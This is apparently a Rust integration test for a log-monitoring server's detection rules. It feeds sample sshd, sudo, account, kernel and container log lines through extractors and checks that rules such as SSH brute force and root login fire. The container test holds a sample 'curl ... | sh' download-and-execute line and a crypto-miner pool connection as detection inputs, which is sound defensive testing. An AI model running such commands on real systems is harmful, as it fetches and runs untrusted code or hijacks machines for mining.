//! The contract between the server's extractors and the built-in rule pack: raw lines,
//! as sshd, sudo, the account tools, the kernel and containers print them, go through
//! the real extractors and then the real pack, and raise exactly the expected rules.

use std::collections::BTreeSet;

use logward_proto::{Container, Event, Source, StreamKind, Values};
use logward_rules::{Engine, EngineConfig, EventRef, OwnedEvent, documents_from_str};
use logward_server::extract::Extractors;

fn pack() -> (Engine, Vec<(String, String)>) {
    let dir = std::path::Path::new(env!("CARGO_MANIFEST_DIR")).join("../rules/builtin");
    let mut docs = Vec::new();
    for entry in std::fs::read_dir(&dir).expect("rules/builtin") {
        let path = entry.expect("entry").path();
        if path.extension().is_some_and(|e| e == "yml" || e == "yaml") {
            let text = std::fs::read_to_string(&path).expect("read");
            docs.extend(
                documents_from_str(&text).unwrap_or_else(|e| panic!("{}: {e:?}", path.display())),
            );
        }
    }
    let titles = docs
        .iter()
        .map(|d| {
            (
                d.meta().id.clone().unwrap_or_default(),
                d.meta().title.clone(),
            )
        })
        .collect();
    (
        Engine::new(&docs, &EngineConfig::default()).expect("the pack compiles"),
        titles,
    )
}

fn host_line(identifier: &str, message: &str) -> Event {
    Event {
        host: "web1".into(),
        source: Source::Journald as i32,
        message: message.as_bytes().to_vec().into(),
        fields: [
            (
                "SYSLOG_IDENTIFIER".to_owned(),
                Values {
                    values: vec![identifier.to_owned()],
                },
            ),
            (
                "_TRANSPORT".to_owned(),
                Values {
                    values: vec![
                        if identifier == "kernel" {
                            "kernel"
                        } else {
                            "syslog"
                        }
                        .to_owned(),
                    ],
                },
            ),
        ]
        .into(),
        ..Default::default()
    }
}

fn container_line(message: &str) -> Event {
    Event {
        host: "web1".into(),
        source: Source::Docker as i32,
        message: message.as_bytes().to_vec().into(),
        stream: StreamKind::Stdout as i32,
        container: Some(Container {
            id: "c0ffee".into(),
            name: "api".into(),
            image: "example/api:1".into(),
            ..Default::default()
        }),
        ..Default::default()
    }
}

/// The event as the rules see it: logward's event JSON, flattened.
fn view(ev: &Event) -> OwnedEvent {
    let fields: serde_json::Map<String, serde_json::Value> = ev
        .fields
        .iter()
        .map(|(k, v)| (k.clone(), serde_json::json!(v.values)))
        .collect();
    let source = match ev.source() {
        Source::Docker => "docker",
        Source::Journald => "journald",
        _ => "collector",
    };
    let mut json = serde_json::json!({
        "host": ev.host,
        "source": source,
        "message": String::from_utf8_lossy(&ev.message),
        "fields": fields,
    });
    if let Some(c) = &ev.container {
        json["stream"] = "stdout".into();
        json["container"] = serde_json::json!({"id": c.id, "name": c.name, "image": c.image});
    }
    OwnedEvent::from_json(&json)
}

/// Runs the lines, in order one second apart, and returns the titles of what fired.
fn check(lines: Vec<Event>, expected: &[&str]) {
    let (mut engine, titles) = pack();
    let extractors = Extractors::new(&[]).expect("built-in extractors");
    let mut fired = BTreeSet::new();
    let t0 = 1_714_557_600_000_000_000_i64;
    for (i, mut ev) in lines.into_iter().enumerate() {
        extractors.apply(&mut ev);
        let ts = t0 + i as i64 * 1_000_000_000;
        for d in engine.process(
            &view(&ev),
            ts,
            &EventRef {
                index: i as u64,
                id: None,
            },
        ) {
            fired.insert(d.rule_title);
        }
    }
    let expected: BTreeSet<String> = expected.iter().map(|s| (*s).to_owned()).collect();
    assert_eq!(fired, expected, "pack titles: {titles:?}");
}

#[test]
fn ssh_brute_force_and_root_login_from_raw_sshd_lines() {
    let mut lines: Vec<Event> = (0..12)
        .map(|i| {
            host_line(
                "sshd",
                &format!(
                    "Failed password for invalid user admin from 203.0.113.66 port {} ssh2",
                    40000 + i
                ),
            )
        })
        .collect();
    lines.push(host_line(
        "sshd",
        "Accepted password for root from 198.51.100.7 port 51000 ssh2",
    ));
    check(
        lines,
        &["SSH brute force from one address", "Root login over SSH"],
    );
}

#[test]
fn sudo_failures_and_shells_from_raw_sudo_lines() {
    check(
        vec![
            host_line(
                "sudo",
                "   alice : 3 incorrect password attempts ; TTY=pts/0 ; PWD=/home/alice ; USER=root ; COMMAND=/usr/bin/ls",
            ),
            host_line(
                "sudo",
                "   alice : TTY=pts/0 ; PWD=/home/alice ; USER=root ; COMMAND=/bin/bash",
            ),
        ],
        &[
            "Sudo authentication failure",
            "Interactive shell through sudo",
        ],
    );
}

#[test]
fn accounts_from_raw_useradd_and_usermod_lines() {
    check(
        vec![
            host_line(
                "useradd",
                "new user: name=eve, UID=1002, GID=1002, home=/home/eve, shell=/bin/bash, from=/dev/pts/0",
            ),
            host_line("usermod", "add 'eve' to group 'docker'"),
        ],
        &[
            "Local user or group created",
            "User added to a privileged group",
        ],
    );
}

#[test]
fn kernel_oom_from_a_raw_kernel_line() {
    check(
        vec![host_line(
            "kernel",
            "Out of memory: Killed process 4242 (java) total-vm:8123456kB, anon-rss:4012345kB, file-rss:0kB, shmem-rss:0kB, UID:1000 pgtables:9000kB oom_score_adj:0",
        )],
        &["Process killed by the kernel OOM killer"],
    );
}

#[test]
fn container_output_attacks_and_benign_lines() {
    check(
        vec![
            container_line("GET /healthz 200 1.2ms"),
            container_line("+ curl -fsSL http://203.0.113.9/x.sh | sh"),
            container_line("connecting to stratum+tcp://pool.example.net:3333 as worker1"),
            container_line("{\"level\":\"info\",\"msg\":\"request handled\",\"status\":200}"),
        ],
        &[
            "Download piped into a shell in container output",
            "Crypto-miner indicator in container output",
        ],
    );
}
